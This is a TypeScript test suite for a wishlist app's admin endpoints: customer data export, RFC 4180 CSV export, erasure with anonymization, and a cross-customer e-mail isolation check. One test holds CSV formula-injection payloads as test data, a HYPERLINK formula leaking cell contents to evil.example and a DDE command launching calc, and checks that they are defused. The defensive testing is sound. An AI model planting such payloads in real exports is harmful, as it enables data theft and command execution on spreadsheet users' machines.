import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp, type TestShop } from '../helpers/app.js'

let t: TestApp
let shop: TestShop
let admin: string

const A = '7001' // the customer whose data is requested and erased
const B = '7002' // another customer, who must stay untouched
const GUEST = 'guest-privacy-01'
const HEADER = [
  'customer_id',
  'wishlist_id',
  'list_name',
  'product_id',
  'variant_id',
  'handle',
  'added_at',
  'note',
  'purchased_at',
  'quantity',
  'priority',
]
const TRICKY_LIST = 'Gifts, "big" ones\r\nand more'
const TRICKY_HANDLE = 'shoe, "red"\nlimited'

const exportOf = (customer: string, query = '') => t.call('GET', `/v1/admin/customers/${customer}/export${query}`, { token: admin })
const erase = (customer: string, query = '') => t.call('DELETE', `/v1/admin/customers/${customer}${query}`, { token: admin })
const csv = () => t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${admin}` } })
const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][]
const order = async (event: Record<string, unknown>) => {
  const res = await t.call('POST', '/v1/events', { token: admin, body: { events: [{ type: 'order.created', ...event }] } })
  expect(res.status).toBe(200)
}
const reviewBody = (over: Record<string, unknown>) => ({
  productId: '501',
  customerName: 'Ann Example',
  rating: 4,
  title: 'Nice',
  body: 'Good shoe.',
  ...over,
})

let shareA: string
let shareB: string
let reviewA: number
let reviewAEmailOnly: number
let reviewB: number

async function seedCustomer(customer: string, email: string): Promise<{ share: string; review: number }> {
  const token = await shop.customerToken(customer)
  const auth = { token }
  expect(
    (
      await t.call('POST', `/v1/wishlists/${customer}/items`, {
        ...auth,
        body: { product_id: '501', handle: TRICKY_HANDLE, metadata: { size: 'M' } },
      })
    ).status,
  ).toBe(201)
  expect(
    (await t.call('POST', `/v1/wishlists/${customer}/items`, { ...auth, body: { product_id: '502', variant_id: '5021' } })).status,
  ).toBe(201)
  const list = await t.call('POST', `/v1/wishlists/${customer}/lists`, { ...auth, body: { name: TRICKY_LIST } })
  expect(list.status).toBe(201)
  const listId = list.body.data.wishlist.wishlistId as string
  expect(
    (await t.call('POST', `/v1/wishlists/${customer}/items?wishlist_id=${listId}`, { ...auth, body: { product_id: '503' } })).status,
  ).toBe(201)
  const share = await t.call('GET', `/v1/wishlists/${customer}/share`, auth)
  expect(share.status).toBe(200)
  const rv = await t.call('POST', '/api/v1/reviews', {
    token,
    headers: { 'x-storefront-key': shop.storefrontKey },
    body: reviewBody({ customerEmail: email }),
  })
  expect(rv.status).toBe(201)
  return { share: (share.body.data.share_url as string).split('/').pop() as string, review: rv.body.id as number }
}

beforeAll(async () => {
  t = await createTestApp()
  shop = await t.createShop('scale', { multi_wishlist_enabled: true, reviews_auto_approve: true })
  admin = await shop.adminToken()
  // The catalog knows product 501's default variant: exports resolve it like the API.
  await t.storage.db
    .insertInto('catalog_products')
    .values({ shop_id: shop.id, product_id: '501', handle: 'shoe', default_variant_id: '5010', variants: '[]', updated_at: Date.now() })
    .execute()
  ;({ share: shareA, review: reviewA } = await seedCustomer(A, 'ann@example.com'))
  ;({ share: shareB, review: reviewB } = await seedCustomer(B, 'bob@example.com'))
  // A review by an address nothing ties to A (only `email=` attributes it).
  const loose = await t.call('POST', '/api/v1/reviews', {
    headers: { 'x-storefront-key': shop.storefrontKey },
    body: reviewBody({ productId: '777', customerEmail: 'ann.private@example.com' }),
  })
  reviewAEmailOnly = loose.body.id as number
  // A votes B's review helpful; B votes A's.
  expect(
    (
      await t.call('PUT', `/api/v1/reviews/${reviewB}/helpful`, {
        token: await shop.customerToken(A),
        headers: { 'x-storefront-key': shop.storefrontKey },
      })
    ).status,
  ).toBe(200)
  expect(
    (
      await t.call('PUT', `/api/v1/reviews/${reviewA}/helpful`, {
        token: await shop.customerToken(B),
        headers: { 'x-storefront-key': shop.storefrontKey },
      })
    ).status,
  ).toBe(200)
  // An order of A under a second address: that address is A's too (an order proves it). Each order invites a review.
  await order({ order_id: '9001', customer_id: A, email: 'ann.orders@example.com', line_items: [{ product_id: '501' }] })
  await order({ order_id: '9002', customer_id: B, line_items: [{ product_id: '502' }] })
  // A guest's item (guests are not customers: empty customer_id in the CSV).
  expect(
    (await t.call('POST', `/v1/wishlists/${GUEST}/items`, { headers: shop.guest(GUEST), body: { product_id: '504', handle: 'plain' } }))
      .status,
  ).toBe(201)
})
afterAll(() => t.close())

describe('GET /v1/admin/customers/{customerId}/export', () => {
  it('contains every kind of record held about the customer', async () => {
    const res = await exportOf(encodeURIComponent(`gid://shopify/Customer/${A}`))
    expect(res.status).toBe(200)
    expect(res.body.ok).toBe(true)
    const doc = res.body.data
    expect(doc.generatedAt).toMatch(/Z$/)
    expect(doc.customerId).toBe(A)
    // Only the address A's order gave: the one typed into A's review proves nothing.
    expect(doc.emails).toEqual(['ann.orders@example.com'])
    expect(doc.wishlistOwner).toMatchObject({ itemCount: 3 })
    expect(doc.lists.map((l: { name: string }) => l.name)).toEqual(['My Wishlist', TRICKY_LIST])
    const [def, named] = doc.lists
    expect(def.items).toEqual(
      expect.arrayContaining([
        // 501 was bought by A's order.
        {
          productId: '501',
          variantId: '5010',
          handle: TRICKY_HANDLE,
          metadata: { size: 'M' },
          addedAt: expect.any(String),
          quantity: 1,
          note: null,
          priority: 'normal',
          purchasedAt: expect.any(String),
        },
        {
          productId: '502',
          variantId: '5021',
          handle: null,
          metadata: null,
          addedAt: expect.any(String),
          quantity: 1,
          note: null,
          priority: 'normal',
          purchasedAt: null,
        },
      ]),
    )
    expect(named).toMatchObject({
      wishlistId: expect.stringMatching(/^wl_/),
      itemCount: 1,
      items: [{ productId: '503' }],
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    })
    expect(doc.shareLinks).toEqual([
      {
        token: shareA,
        shareUrl: `http://wishlist.test/v1/wishlists/shared/${shareA}`,
        wishlistId: 'default',
        createdAt: expect.any(String),
        expiresAt: expect.any(String),
        revokedAt: null,
      },
    ])
    expect(doc.reviews).toEqual([
      expect.objectContaining({
        id: reviewA,
        customerEmail: 'ann@example.com',
        customerName: 'Ann Example',
        customerId: A,
        status: 'approved',
        helpfulCount: 1,
      }),
    ])
    expect(doc.helpfulVotes).toEqual([{ reviewId: reviewB, createdAt: expect.any(String) }])
    // One record per buyer identity the order named (customer A and the e-mail), told apart.
    expect(doc.purchases).toEqual([
      { productId: '501', identity: 'customer', customerId: A, email: 'ann.orders@example.com', createdAt: expect.any(String) },
      { productId: '501', identity: 'email', customerId: A, email: 'ann.orders@example.com', createdAt: expect.any(String) },
    ])
    expect(doc.reviewInvitations).toEqual([
      {
        token: expect.any(String),
        orderId: '9001',
        customerId: A,
        email: 'ann.orders@example.com',
        productId: '501',
        reviewUrl: expect.stringMatching(/^http:\/\/wishlist\.test\/reviews\/new\?invitation=[A-Za-z0-9_-]{32}$/),
        expiresAt: expect.any(String),
        usedAt: null,
      },
    ])
    const types = doc.analyticsEvents.map((e: { type: string }) => e.type)
    expect(types.filter((x: string) => x === 'add')).toHaveLength(3)
    expect(types).toContain('share')
    expect(JSON.stringify(doc)).not.toContain('bob@example.com')
  })

  it('adds reviews by an address given with email=', async () => {
    const res = await exportOf(A, '?email=Ann.Private@example.com')
    expect(res.body.data.emails).toContain('ann.private@example.com')
    expect(res.body.data.reviews.map((r: { id: number }) => r.id).sort()).toEqual([reviewA, reviewAEmailOnly].sort())
  })

  it('returns the empty structure (200) for a customer with nothing held', async () => {
    const res = await exportOf('123456789')
    expect(res.status).toBe(200)
    expect(res.body.data).toEqual({
      generatedAt: expect.any(String),
      customerId: '123456789',
      emails: [],
      wishlistOwner: null,
      lists: [],
      shareLinks: [],
      reviews: [],
      helpfulVotes: [],
      purchases: [],
      reviewInvitations: [],
      analyticsEvents: [],
      notificationContact: null,
      notificationOptOut: null,
      notifications: [],
    })
  })

  it("holds the customer's notification contact, opt-out and notifications with their deliveries", async () => {
    const admin = await shop.adminToken()
    const put = await t.call('PUT', '/v1/admin/customers/555001/contact', { token: admin, body: { email: 'Nia@Example.com' } })
    expect(put.status).toBe(200)
    const at = Date.now()
    await t.storage.db
      .insertInto('notifications')
      .values([
        {
          shop_id: shop.id,
          id: 'ntf_a',
          owner_type: 'customer',
          owner_id: '555001',
          signal: 'back_in_stock',
          product_id: '901',
          variant_id: '9011',
          payload: '{}',
          state: 'queued',
          reason: null,
          created_at: at,
        },
        {
          shop_id: shop.id,
          id: 'ntf_b',
          owner_type: 'customer',
          owner_id: '555001',
          signal: 'back_in_stock',
          product_id: '901',
          variant_id: '9011',
          payload: '{}',
          state: 'suppressed',
          reason: 'cooldown',
          created_at: at + 1,
        },
        {
          shop_id: shop.id,
          id: 'ntf_c',
          owner_type: 'customer',
          owner_id: '555002',
          signal: 'price_drop',
          product_id: '902',
          variant_id: null,
          payload: '{}',
          state: 'queued',
          reason: null,
          created_at: at,
        },
      ])
      .execute()
    await t.storage.db
      .insertInto('notification_deliveries')
      .values({
        shop_id: shop.id,
        id: 'ndl_a',
        notification_id: 'ntf_a',
        channel: 'klaviyo',
        state: 'sent',
        next_attempt_at: at,
        lease_owner: null,
        lease_until: null,
        last_error: null,
        created_at: at,
        sent_at: at + 5,
      })
      .execute()
    await t.storage.db
      .insertInto('notification_opt_outs')
      .values({ shop_id: shop.id, owner_type: 'customer', owner_id: '555001', opted_out_at: at + 10 })
      .execute()

    const doc = (await exportOf('555001')).body.data
    expect(doc.notificationContact).toEqual({
      email: 'nia@example.com',
      source: 'merchant',
      consentText: null,
      consentedAt: expect.any(String),
    })
    expect(doc.notificationOptOut).toEqual({ optedOutAt: new Date(at + 10).toISOString() })
    expect(doc.notifications).toEqual([
      {
        signal: 'back_in_stock',
        productId: '901',
        variantId: '9011',
        state: 'queued',
        reason: null,
        createdAt: new Date(at).toISOString(),
        deliveries: [{ channel: 'klaviyo', state: 'sent', sentAt: new Date(at + 5).toISOString() }],
      },
      {
        signal: 'back_in_stock',
        productId: '901',
        variantId: '9011',
        state: 'suppressed',
        reason: 'cooldown',
        createdAt: new Date(at + 1).toISOString(),
        deliveries: [],
      },
    ])
  })

  it('rejects a customer id that is neither digits nor a GID', async () => {
    const res = await exportOf('abc')
    expect(res.status).toBe(400)
    expect(res.body.error.code).toBe('VALIDATION_ERROR')
  })

  it('is for admin tokens only', async () => {
    const asCustomer = await t.call('GET', `/v1/admin/customers/${A}/export`, { token: await shop.customerToken(A) })
    expect(asCustomer.status).toBe(403)
    const asGuest = await t.call('DELETE', `/v1/admin/customers/${A}`, { headers: shop.guest(GUEST) })
    expect(asGuest.status).toBe(403)
    const anonymous = await t.call('GET', '/v1/admin/export/wishlists.csv')
    expect(anonymous.status).toBe(401)
  })
})

describe('GET /v1/admin/export/wishlists.csv', () => {
  it('streams RFC 4180 CSV that round-trips through a standard parser', async () => {
    const res = await csv()
    expect(res.statusCode).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="wishlists-\d{4}-\d\d-\d\d\.csv"$/)
    expect(res.body.startsWith(`${HEADER.join(',')}\r\n`)).toBe(true)
    expect(res.body.endsWith('\r\n')).toBe(true)
    const [header, ...rows] = parseCsv(res.body)
    expect(header).toEqual(HEADER)
    const ofA = rows.filter((r) => r[0] === A)
    expect(ofA).toHaveLength(3)
    const shoe = ofA.find((r) => r[3] === '501')
    const time = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
    expect(shoe).toEqual([A, 'default', 'My Wishlist', '501', '5010', TRICKY_HANDLE, time, '', time, '1', 'normal'])
    expect(ofA.find((r) => r[3] === '503')?.[2]).toBe(TRICKY_LIST)
    expect(ofA.find((r) => r[3] === '502')?.slice(4, 6)).toEqual(['5021', ''])
    // Guests are not customers: their rows carry an empty customer_id.
    expect(rows.filter((r) => r[3] === '504')).toEqual([
      ['', 'default', 'My Wishlist', '504', '', 'plain', expect.any(String), '', '', '1', 'normal'],
    ])
  })

  it('streams thousands of rows across batches, each item once, other shops excluded', async () => {
    const big = await t.createShop('starter')
    const other = await t.createShop('starter')
    const at = Date.now()
    const rows = []
    for (let c = 0; c < 3; c++)
      for (let p = 0; p < 1_200; p++)
        rows.push({
          shop_id: big.id,
          owner_type: 'customer' as const,
          owner_id: String(900 + c),
          list_id: 'default',
          product_id: String(p),
          variant_id: null,
          handle: p % 7 === 0 ? `h,${p}` : null,
          metadata: null,
          added_at: at + p,
        })
    for (let i = 0; i < rows.length; i += 400)
      await t.storage.db
        .insertInto('wishlist_items')
        .values(rows.slice(i, i + 400))
        .execute()
    await t.storage.db
      .insertInto('wishlist_items')
      .values({ ...rows[0]!, shop_id: other.id })
      .execute()
    const res = await t.inject({
      method: 'GET',
      url: '/v1/admin/export/wishlists.csv',
      headers: { authorization: `Bearer ${await big.adminToken()}` },
    })
    const [, ...parsed] = parseCsv(res.body)
    expect(parsed).toHaveLength(3_600)
    expect(new Set(parsed.map((r) => `${r[0]}/${r[3]}`)).size).toBe(3_600)
    expect(parsed.filter((r) => r[5] === 'h,7')).toHaveLength(3)
  })

  it('defuses a formula a guest saves as a handle or list name: the cell starts with a quote (OWASP)', async () => {
    const victim = await t.createShop('growth', { multi_wishlist_enabled: true })
    const guest = victim.guest('g_formula-guest-0001')
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
    expect(
      (await t.call('POST', '/v1/wishlists/g_formula-guest-0001/items', { headers: guest, body: { product_id: '901', handle: formula } }))
        .status,
    ).toBe(201)
    const list = await t.call('POST', '/v1/wishlists/g_formula-guest-0001/lists', {
      headers: guest,
      body: { name: '@SUM(1+1)*cmd|" /C calc"!A0' },
    })
    expect(list.status).toBe(201)
    expect(
      (
        await t.call('POST', `/v1/wishlists/g_formula-guest-0001/items?wishlist_id=${list.body.data.wishlist.wishlistId}`, {
          headers: guest,
          body: { product_id: '902', handle: '-2+3' },
        })
      ).status,
    ).toBe(201)
    const res = await t.inject({
      method: 'GET',
      url: '/v1/admin/export/wishlists.csv',
      headers: { authorization: `Bearer ${await victim.adminToken()}` },
    })
    expect(res.statusCode).toBe(200)
    // No cell of the file starts with a formula character, whatever a spreadsheet's parser does with quotes.
    expect(res.body).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/)
    const [, ...rows] = parseCsv(res.body)
    expect(rows.find((r) => r[3] === '901')?.[5]).toBe(`'${formula}`)
    const named = rows.find((r) => r[3] === '902')
    expect(named?.[2]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(named?.[5]).toBe(`'-2+3`)
    // The API still returns what was saved.
    const page = await t.call('GET', '/v1/wishlists/g_formula-guest-0001', { headers: guest })
    expect(page.body.data.items[0].handle).toBe(formula)
  })

  it('is just the header for a shop without items', async () => {
    const empty = await t.createShop('free')
    const res = await t.inject({
      method: 'GET',
      url: '/v1/admin/export/wishlists.csv',
      headers: { authorization: `Bearer ${await empty.adminToken()}` },
    })
    expect(res.statusCode).toBe(200)
    expect(res.body).toBe(`${HEADER.join(',')}\r\n`)
  })
})

describe('DELETE /v1/admin/customers/{customerId}', () => {
  let bBefore: unknown
  let summaryBefore: unknown
  let factsBefore: number
  let overviewBefore: unknown
  let dailyBefore: unknown

  it('erases in one go and reports what it erased', async () => {
    overviewBefore = (await t.call('GET', '/v1/analytics/overview?period=all', { token: admin })).body.data
    dailyBefore = (await t.call('GET', '/v1/analytics/daily?period=7d', { token: admin })).body.data
    const top = await t.call('GET', '/v1/analytics/product/501', { token: admin })
    expect(top.body.data.wishlistCount).toBe(2) // A and B hold it
    bBefore = (await exportOf(B)).body.data
    summaryBefore = (await t.call('GET', '/api/v1/products/501/reviews/summary', { headers: { 'x-storefront-key': shop.storefrontKey } }))
      .body
    factsBefore = (
      await t.storage.db
        .selectFrom('analytics_events')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .where('shop_id', '=', shop.id)
        .executeTakeFirstOrThrow()
    ).n

    const res = await erase(A, '?email=ann.private@example.com')
    expect(res.status).toBe(200)
    expect(res.body).toEqual({
      ok: true,
      data: {
        wishlists: 2,
        items: 3,
        shareLinks: 1,
        reviewsAnonymized: 2,
        helpfulVotes: 1,
        purchases: 2,
        reviewInvitations: 1,
        analyticsEventsPseudonymized: expect.any(Number),
        webhookDeliveries: 0,
      },
    })
    expect(res.body.data.analyticsEventsPseudonymized).toBeGreaterThanOrEqual(4)
  })

  it('leaves nothing readable: items, lists, share link, review identity', async () => {
    const items = await t.call('GET', `/v1/wishlists/${A}`, { token: admin })
    expect(items.body.data).toMatchObject({ total: 0, items: [] })
    const lists = await t.call('GET', `/v1/wishlists/${A}/lists`, { token: admin })
    expect(lists.body.data.wishlists).toEqual([expect.objectContaining({ wishlistId: 'default', name: 'My Wishlist', itemCount: 0 })])
    const shared = await t.call('GET', `/v1/wishlists/shared/${shareA}`)
    expect(shared.status).toBe(404)

    const moderation = await t.call('GET', '/api/v1/admin/reviews?per_page=100', { token: admin })
    const mine = moderation.body.data.filter((r: { id: number }) => r.id === reviewA || r.id === reviewAEmailOnly)
    expect(mine).toHaveLength(2)
    for (const r of mine) expect(r).toMatchObject({ customerName: 'Anonymous', customerEmail: null, customerId: null })
    expect(JSON.stringify(moderation.body)).not.toMatch(/ann[.@]/i)
    // The review itself stays, with its rating and helpful votes: aggregates unchanged.
    const one = await t.call('GET', `/api/v1/reviews/${reviewA}`, { headers: { 'x-storefront-key': shop.storefrontKey } })
    expect(one.body).toMatchObject({ customerName: 'Anonymous', rating: 4, helpfulCount: 1 })
    const summary = await t.call('GET', '/api/v1/products/501/reviews/summary', { headers: { 'x-storefront-key': shop.storefrontKey } })
    expect(summary.body).toEqual(summaryBefore)

    const doc = (await exportOf(A, '?email=ann.private@example.com')).body.data
    expect(doc).toMatchObject({
      emails: ['ann.private@example.com'],
      wishlistOwner: null,
      lists: [],
      shareLinks: [],
      reviews: [],
      helpfulVotes: [],
      purchases: [],
      reviewInvitations: [],
      analyticsEvents: [],
    })
    const rawIds = await t.storage.db
      .selectFrom('analytics_events')
      .select('owner_id')
      .where('shop_id', '=', shop.id)
      .where('owner_id', '=', A)
      .execute()
    expect(rawIds).toEqual([])
  })

  it('keeps analytics counts and leaves other customers untouched', async () => {
    const facts = (
      await t.storage.db
        .selectFrom('analytics_events')
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .where('shop_id', '=', shop.id)
        .executeTakeFirstOrThrow()
    ).n
    expect(Number(facts)).toBe(Number(factsBefore))
    // Rollups keep their counts (adds, removes, shoppers, conversion)…
    expect((await t.call('GET', '/v1/analytics/overview?period=all', { token: admin })).body.data).toEqual(overviewBefore)
    expect((await t.call('GET', '/v1/analytics/daily?period=7d', { token: admin })).body.data).toEqual(dailyBefore)
    // …while "owners that now hold it" drops the erased customer.
    expect((await t.call('GET', '/v1/analytics/product/501', { token: admin })).body.data.wishlistCount).toBe(1)
    const top = await t.call('GET', '/v1/analytics/top-products', { token: admin })
    expect(top.body.data.products).toContainEqual(expect.objectContaining({ productId: '501', wishlistCount: 1 }))
    expect(top.body.data.products).toContainEqual(expect.objectContaining({ productId: '503', wishlistCount: 1 }))
    const bAfter = (await exportOf(B)).body.data
    expect({ ...bAfter, generatedAt: null }).toEqual({ ...(bBefore as object), generatedAt: null })
    const shared = await t.call('GET', `/v1/wishlists/shared/${shareB}`)
    expect(shared.status).toBe(200)
    expect(shared.body.data.count).toBe(2)
  })

  it('is harmless the second time (zeros)', async () => {
    const res = await erase(A, '?email=ann.private@example.com')
    expect(res.status).toBe(200)
    expect(res.body.data).toEqual({
      wishlists: 0,
      items: 0,
      shareLinks: 0,
      reviewsAnonymized: 0,
      helpfulVotes: 0,
      purchases: 0,
      reviewInvitations: 0,
      analyticsEventsPseudonymized: 0,
      webhookDeliveries: 0,
    })
  })

  it('lets the customer start afresh afterwards', async () => {
    const again = await t.call('POST', `/v1/wishlists/${A}/items`, { token: admin, body: { product_id: '501' } })
    expect(again.status).toBe(201)
    expect(again.body.data.count).toBe(1)
  })
})

describe("a customer cannot reach another customer's data through an e-mail typed into a review", () => {
  const ATTACKER = '301'
  const VICTIM = '302'
  const VICTIM_EMAIL = 'victim@example.com'

  it("keeps the victim's e-mail, purchases, invitations and reviews out of the attacker's export and erasure", async () => {
    // The victim: an order (purchase and invitation) and a review with their own token.
    await order({ order_id: '9301', customer_id: VICTIM, email: VICTIM_EMAIL, line_items: [{ product_id: '601' }] })
    const victimToken = await shop.customerToken(VICTIM)
    const victimReview = await t.call('POST', '/api/v1/reviews', {
      token: victimToken,
      headers: { 'x-storefront-key': shop.storefrontKey },
      body: reviewBody({ productId: '601', customerEmail: VICTIM_EMAIL }),
    })
    expect(victimReview.status).toBe(201)
    const victimBefore = (await exportOf(VICTIM)).body.data
    expect(victimBefore.purchases).toHaveLength(2)
    expect(victimBefore.reviewInvitations).toHaveLength(1)

    // The attack: customer 301, with only their own token, types the victim's address.
    const attackerToken = await shop.customerToken(ATTACKER)
    const typed = await t.call('POST', '/api/v1/reviews', {
      token: attackerToken,
      headers: { 'x-storefront-key': shop.storefrontKey },
      body: reviewBody({ productId: '602', customerEmail: VICTIM_EMAIL }),
    })
    expect(typed.status).toBe(201)

    const doc = (await exportOf(ATTACKER)).body.data
    expect(doc.emails).toEqual([])
    expect(doc.purchases).toEqual([])
    expect(doc.reviewInvitations).toEqual([])
    // Only the attacker's own review (as they typed it), never the victim's.
    expect(doc.reviews.map((r: { id: number }) => r.id)).toEqual([typed.body.id])

    const erased = await erase(ATTACKER)
    expect(erased.body.data).toMatchObject({ reviewsAnonymized: 1, purchases: 0, reviewInvitations: 0 })
    const victimAfter = (await exportOf(VICTIM)).body.data
    expect({ ...victimAfter, generatedAt: null }).toEqual({ ...victimBefore, generatedAt: null })
    const review = await t.call('GET', `/api/v1/reviews/${victimReview.body.id}`, { token: admin })
    expect(review.body).toMatchObject({
      customerName: 'Ann Example',
      customerEmail: VICTIM_EMAIL,
      customerId: VICTIM,
      verifiedPurchase: true,
    })
  })
})
